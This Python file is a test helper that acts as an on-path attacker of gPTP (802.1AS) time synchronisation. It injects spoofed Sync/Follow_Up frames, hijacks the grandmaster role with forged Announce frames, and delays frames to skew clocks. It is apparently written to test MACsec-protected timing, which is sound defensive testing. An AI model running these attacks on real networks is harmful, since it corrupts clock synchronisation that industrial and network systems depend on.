#!/usr/bin/python3
"""An on-path attacker of gPTP (802.1AS) for the namespace tests in tests/cli/.

Raw AF_PACKET, no scapy. Frames are built as 802.1AS-2020 lays them out
(common header §10.6.2, Sync/Follow_Up §11.4.3-4 with the Follow_Up
information TLV, Announce §10.6.3 with a path trace TLV), to 01-80-C2-00-00-0E
with EtherType 0x88F7, as plain frames: an attacker without the link's MACsec
key can send nothing else.

  ptp_attack.py sync IFACE SECONDS GM_CLOCK_ID SHIFT_NS
      Sync + Follow_Up pairs (16/s) that claim to come from the grandmaster's
      port (GM_CLOCK_ID, port 1) with preciseOriginTimestamp = this host's
      CLOCK_REALTIME + SHIFT_NS.
  ptp_attack.py hijack IFACE SECONDS ATTACKER_CLOCK_ID SHIFT_NS
      Announce (8/s, priority1 0: better than any real GM) from
      ATTACKER_CLOCK_ID, and Sync + Follow_Up (16/s) from it with
      CLOCK_REALTIME + SHIFT_NS.
  ptp_attack.py holdback IFACE_TO_GM IFACE_TO_SLAVE SECONDS DELAY_NS
      Forwards every frame between the two interfaces (a device on the path
      that carries MACsec frames it cannot read), holding back each frame
      from the grandmaster's side by DELAY_NS and passing the other
      direction at once.
Prints one line: what it sent or forwarded.
"""
import heapq
import select
import socket
import struct
import sys
import time

ETH_P_ALL = 0x0003
PACKET_OUTGOING = 4
GROUP = bytes.fromhex("0180c200000e")
SRC_MAC = bytes.fromhex("02000000eeee")


def header(msg_type, length, flags, clock_id, port, seq, control, log_interval):
    return struct.pack(
        ">BBHBBHqI8sHHBb",
        0x10 | msg_type,  # majorSdoId 1 (gPTP), messageType
        0x12,  # minorVersionPTP 1, versionPTP 2
        length,
        0,  # domainNumber
        0,  # minorSdoId
        flags,
        0,  # correctionField
        0,  # messageTypeSpecific
        clock_id.to_bytes(8, "big"),
        port,
        seq,
        control,
        log_interval,
    )


def timestamp(ns):
    s, n = divmod(ns, 1_000_000_000)
    return s.to_bytes(6, "big") + struct.pack(">I", n)


def sync(clock_id, seq):
    return header(0x0, 44, 0x0200, clock_id, 1, seq, 0, -3) + bytes(10)


def follow_up(clock_id, seq, origin_ns):
    tlv = struct.pack(">HH3s3sihx11si", 0x0003, 28, bytes.fromhex("0080c2"), bytes.fromhex("000001"), 0, 0, bytes(11), 0)
    return header(0x8, 76, 0, clock_id, 1, seq, 2, -3) + timestamp(origin_ns) + tlv


def announce(clock_id, seq):
    body = (
        bytes(10)  # originTimestamp (reserved)
        + struct.pack(">hx", 37)  # currentUtcOffset, reserved
        + struct.pack(">BBBHB", 0, 6, 0x21, 0x4E5D, 0)  # priority1 0, clockQuality, priority2 0
        + clock_id.to_bytes(8, "big")
        + struct.pack(">HB", 0, 0x20)  # stepsRemoved 0, timeSource GPS
    )
    tlv = struct.pack(">HH", 0x0008, 8) + clock_id.to_bytes(8, "big")
    return header(0xB, 76, 0x0008, clock_id, 1, seq, 5, -3) + body + tlv


def raw_socket(iface):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    s.bind((iface, 0))
    return s


def frame(payload):
    f = GROUP + SRC_MAC + struct.pack(">H", 0x88F7) + payload
    return f + bytes(max(0, 60 - len(f)))


def inject(mode, iface, seconds, clock_id, shift_ns):
    s = raw_socket(iface)
    seq = 20000
    sent = {"sync": 0, "follow_up": 0, "announce": 0}
    end = time.monotonic() + seconds
    next_announce = 0.0
    while time.monotonic() < end:
        if mode == "hijack" and time.monotonic() >= next_announce:
            s.send(frame(announce(clock_id, seq)))
            sent["announce"] += 1
            next_announce = time.monotonic() + 0.125
        seq = (seq + 1) & 0xFFFF
        s.send(frame(sync(clock_id, seq)))
        s.send(frame(follow_up(clock_id, seq, time.time_ns() + shift_ns)))
        sent["sync"] += 1
        sent["follow_up"] += 1
        time.sleep(1 / 16)
    print(f"{mode} on {iface}: sent {sent}")


def holdback(to_gm, to_slave, seconds, delay_ns):
    a, b = raw_socket(to_gm), raw_socket(to_slave)
    pending = []  # (release monotonic ns, order, frame): frames from the GM's side
    order = 0
    moved = {"held": 0, "passed": 0}
    end = time.monotonic_ns() + int(seconds * 1e9)
    while time.monotonic_ns() < end:
        now = time.monotonic_ns()
        while pending and pending[0][0] <= now:
            b.send(heapq.heappop(pending)[2])
        wait = (pending[0][0] - now) / 1e9 if pending else 0.05
        ready, _, _ = select.select([a, b], [], [], max(0.0, min(wait, 0.05)))
        for s in ready:
            data, addr = s.recvfrom(65535)
            if addr[2] == PACKET_OUTGOING:
                continue
            if s is a:
                heapq.heappush(pending, (time.monotonic_ns() + delay_ns, order, data))
                order += 1
                moved["held"] += 1
            else:
                a.send(data)
                moved["passed"] += 1
    for _, _, data in sorted(pending):
        b.send(data)
    print(f"holdback {to_gm} -> {to_slave} by {delay_ns} ns: {moved}")


def main(argv):
    if len(argv) == 6 and argv[1] in ("sync", "hijack"):
        inject(argv[1], argv[2], float(argv[3]), int(argv[4], 16), int(argv[5]))
    elif len(argv) == 6 and argv[1] == "holdback":
        holdback(argv[2], argv[3], float(argv[4]), int(argv[5]))
    else:
        sys.exit(__doc__)


if __name__ == "__main__":
    main(sys.argv)
